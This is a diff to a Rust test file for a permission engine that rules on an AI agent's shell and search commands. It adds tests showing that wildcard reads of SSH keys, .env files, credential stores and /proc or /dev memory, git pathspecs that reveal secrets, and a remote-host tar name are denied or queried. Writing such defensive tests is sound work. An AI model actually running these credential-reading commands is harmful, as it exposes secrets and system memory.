@@ -10,7 +10,7 @@ use std::sync::Arc;
 
 use countersign_core::call::Json;
 use countersign_core::layers::preset;
-use countersign_core::path::{RealFiles, Where};
+use countersign_core::path::{Files as _, NearFiles, RealFiles, Where};
 use countersign_core::policy::document::{Format, Layer, Source, load};
 use countersign_core::policy::{Effect, JudgedCall, Policy, judge};
 
@@ -139,7 +139,26 @@ fn verdict(policy: &Policy, tool: &str, line: &str) -> (Effect, String) {
         conditions: &[],
     };
     let verdict = judge(policy, &call, &RealFiles).unwrap();
+    // What is said of what is near is the same.
+    let near = judged_near(policy, tool, line);
+    assert_eq!(near.unwrap_or(verdict.effect), verdict.effect, "{line}");
     (verdict.effect, verdict.reason)
+}
+
+/// The verdict of a thread that must not wait, where it has one.
+fn judged_near(policy: &Policy, tool: &str, line: &str) -> Option<Effect> {
+    let args = BTreeMap::from([("command".to_owned(), Json::String(line.to_owned()))]);
+    let (args, annotations) = (Json::Object(args), BTreeMap::new());
+    let call = JudgedCall {
+        tool_name: tool,
+        args: &args,
+        cwd: None,
+        annotations: &annotations,
+        conditions: &[],
+    };
+    let files = NearFiles::new(&policy.context().cwd);
+    let verdict = judge(policy, &call, &files).ok()?;
+    (!files.is_beyond()).then_some(verdict.effect)
 }
 
 #[test]
@@ -262,6 +281,7 @@ fn started(house: &House, name: &str, folder: &str) -> Policy {
         "deny-env" => {
             r#"{"version":1,"rule":[{"effect":"allow","commands":["git"]},{"effect":"deny","reads":["**/.env"]}]}"#
         }
+        text if text.starts_with('{') => text,
         name => preset(name).unwrap(),
     };
     let format = if text.starts_with('{') { Format::Json } else { Format::Toml };
@@ -323,6 +343,33 @@ fn a_session_that_starts_in_a_folder_that_looks_like_a_repository_runs_no_git() 
     }
 }
 
+#[test]
+fn where_git_would_find_its_repository_is_judged_without_waiting() {
+    let house = House::new("near");
+    for (folder, line, expected) in [
+        ("project", "git status", Some(Effect::Allow)),
+        ("project", "git log --oneline -5 && git status | cat", Some(Effect::Allow)),
+        ("project/src", "git status", Some(Effect::Allow)),
+        ("project/pkg", "git status", Some(Effect::Ask)),
+        ("project/pkg/objects", "git log", Some(Effect::Ask)),
+        // What is elsewhere, and what is in files, is looked at by who may wait.
+        ("project", "git diff", None),
+        ("project", "cat src/lib.rs", None),
+        ("project", "git fetch bare", None),
+        ("project", "cd src; git status", None),
+        ("project", "cat *", None),
+    ] {
+        let policy = started(&house, "read-only", folder);
+        assert_eq!(judged_near(&policy, "bash", line), expected, "{folder}: {line}");
+    }
+    // A few looks are few.
+    let project = house.at("project");
+    let files = NearFiles::new(&project);
+    let looks = (0..99).take_while(|name| files.has(&format!("{project}/{name}")).is_ok());
+    assert_eq!(looks.count(), 64);
+    assert!(files.is_beyond());
+}
+
 /// An index of git with these names.
 fn index(names: &[&str]) -> Vec<u8> {
     let mut bytes = b"DIRC\0\0\0\x02".to_vec();
@@ -368,6 +415,10 @@ const SHOWS_ALL: &[&str] = &[
     "git stash show -p",
     "git stash list -p",
     "git reflog -p",
+    "git log -p -- .",
+    "git show -- .",
+    "git whatchanged -p -- .",
+    "git stash show -p -- .",
 ];
 
 /// What shows nothing that is in `.env`.
@@ -400,6 +451,168 @@ fn a_secret_that_git_knows_is_met_by_each_pathspec_and_by_none() {
             tried(&started(&house, name, folder), &lines, &[]);
         }
         tried(&started(&house, name, "project"), &[], SHOWS_OTHERS);
+    }
+    fs::write(house.root.join("project/.git/index"), index(&["ops/.env", "src/lib.rs"])).unwrap();
+    for name in ["read-only", "deny-env"] {
+        tried(
+            &started(&house, name, "project"),
+            &[
+                "git log -p -- ops",
+                "git log -u -- src ops/",
+                "git show HEAD -- ./ops",
+                "git show -- src ops",
+                "git whatchanged -p -- ops",
+                "git --no-pager log -p --reverse main -- ops",
+                "git stash show -p -- ops",
+                "git range-diff a b c -- ops",
+                "cd src && git log -p -- ../ops",
+                "cd src && git show -- ..",
+            ],
+            &["git log -p -- src", "git show HEAD -- src", "git log --oneline -- ops"],
+        );
+    }
+}
+
+#[test]
+fn what_a_pattern_finds_is_as_secret_as_what_is_spelled_out() {
+    let house = House::new("wildcards");
+    for file in [
+        "ops/id_rsa",
+        "ops/prod.env",
+        "ops/terraform.tfstate",
+        "ops/credentials.json",
+        "deploy/a/x.pem",
+        ".codex/auth.json",
+        "plain/a.txt",
+        "plain/b.txt",
+    ] {
+        let file = house.root.join("project").join(file);
+        fs::create_dir_all(file.parent().unwrap()).unwrap();
+        fs::write(file, "SECRET").unwrap();
+    }
+    fs::write(house.root.join("home/.ssh/config"), "SECRET").unwrap();
+    for name in ["read-only", "developer"] {
+        tried(
+            &started(&house, name, "project"),
+            &[
+                "cat server.k??",
+                "cat serv*",
+                "cat *",
+                "head -50 *",
+                "grep -n SECRET *",
+                "cat ops/*",
+                "cat ops/i*",
+                "cat ops/*env",
+                "cat ops/prod.*",
+                "cat ops/c*",
+                "cat ops/*.json",
+                "sort ops/terra*",
+                "cat o*/*",
+                "cat deploy/*/*",
+                "cat .codex/*",
+                "cat .git/conf*",
+                "cat .git/?onfig",
+                "head .git/*",
+                "cat keys/c*",
+                "cd ops && cat *",
+                "for f in ops/*; do cat \"$f\"; done",
+                "cat < ops/i*",
+                "cat /roo?/x",
+                "cat /r*/.profile",
+                "cat /proc/1/mem",
+                "xxd -s 1 -l 4096 /proc/1/mem",
+                "cat /proc/1/envir*",
+                "for p in 1 2; do cat /proc/$p/mem; done",
+                "cat /proc/kcore",
+                "cat /dev/mem",
+                "head -c 512 /dev/sda",
+                "cat /dev/tty1",
+                "cat /dev/mapper/x",
+                "cat .git/modules/m/config",
+            ],
+            &["cat plain/*", "cat pl*/a*", "ls ops/*", "grep -n x plain/*.txt", "wc -l src/*.rs"],
+        );
+    }
+}
+
+#[test]
+fn a_name_that_is_a_place_on_another_machine_is_met_by_a_pattern() {
+    let house = House::new("hosts");
+    for folder in ["project/t", "project/plain"] {
+        fs::create_dir_all(house.root.join(folder)).unwrap();
+    }
+    fs::write(house.root.join("project/plain/a.tgz"), "").unwrap();
+    fs::write(house.root.join("project/t/u@evil.example:a.tgz"), "").unwrap();
+    for name in ["read-only", "developer"] {
+        tried(
+            &started(&house, name, "project/t"),
+            &[
+                "tar -tf *.tgz",
+                "tar tf *",
+                "for f in *.tgz; do tar tf \"$f\"; done",
+                "tar -tf \"$(ls)\"",
+            ],
+            &["tar -tf ./*.tgz"],
+        );
+        tried(
+            &started(&house, name, "project"),
+            &["cd t; tar -tf *.tgz", "tar -tf u@evil.example:a.tgz"],
+            &["tar -tf plain/*.tgz", "tar -tf *.tgz"],
+        );
+    }
+}
+
+#[test]
+fn a_formatter_is_not_led_out_of_the_project_by_a_symlink() {
+    let house = House::new("formats");
+    fs::create_dir_all(house.root.join("project/plain")).unwrap();
+    fs::write(house.root.join("project/plain/a.go"), "").unwrap();
+    let denied = r#"{"version":1,"rule":[{"effect":"allow","commands":["gofmt","go","cargo","rustfmt"]},{"effect":"deny","writes":["OUT/**"]}]}"#;
+    let denied = denied.replace("OUT", &house.at("out"));
+    let lines = ["gofmt -w .", "go fmt ./...", "cargo fmt", "gofmt -w ./", "gofmt -w d"];
+    for name in ["developer", denied.as_str()] {
+        // `d/l` leads out.
+        tried(&started(&house, name, "project"), &lines, &[]);
+        tried(&started(&house, name, "project/plain"), &[], &lines[..3]);
+    }
+    tried(&started(&house, "developer", "project"), &[], &["prettier --write .", "git stash"]);
+}
+
+#[test]
+fn a_tool_that_searches_reads_no_secret_unasked() {
+    let house = House::new("searches");
+    for file in ["ops/id_rsa", ".codex/auth.json", "plain/a.txt"] {
+        let file = house.root.join("project").join(file);
+        fs::create_dir_all(file.parent().unwrap()).unwrap();
+        fs::write(file, "SECRET").unwrap();
+    }
+    let policy = started(&house, "read-only", "project");
+    let searched = |args: &str| {
+        let args: Json = serde_json::from_str(args).unwrap();
+        let annotations = BTreeMap::new();
+        let call = JudgedCall {
+            tool_name: "grep",
+            args: &args,
+            cwd: None,
+            annotations: &annotations,
+            conditions: &[],
+        };
+        judge(&policy, &call, &RealFiles).unwrap().effect
+    };
+    for (expected, args) in [
+        (Effect::Ask, r#"{"pattern":"SECRET"}"#),
+        (Effect::Ask, r#"{"pattern":"SECRET","path":"."}"#),
+        (Effect::Ask, r#"{"pattern":"SECRET","path":"ops"}"#),
+        (Effect::Ask, r#"{"pattern":"SECRET","glob":"**/*.key"}"#),
+        (Effect::Ask, r#"{"pattern":"SECRET","glob":"{a/*,server*}"}"#),
+        (Effect::Ask, r#"{"pattern":"SECRET","path":".codex"}"#),
+        (Effect::Ask, r#"{"pattern":"url","path":".git"}"#),
+        (Effect::Allow, r#"{"pattern":"SECRET","path":"plain"}"#),
+        (Effect::Allow, r#"{"pattern":"SECRET","path":"src"}"#),
+        (Effect::Allow, r#"{"pattern":"SECRET","glob":"*.ts"}"#),
+        (Effect::Allow, r#"{"pattern":"SECRET","glob":"src/**/*.{rs,ts}"}"#),
+    ] {
+        assert_eq!(searched(args), expected, "{args}");
     }
 }
 
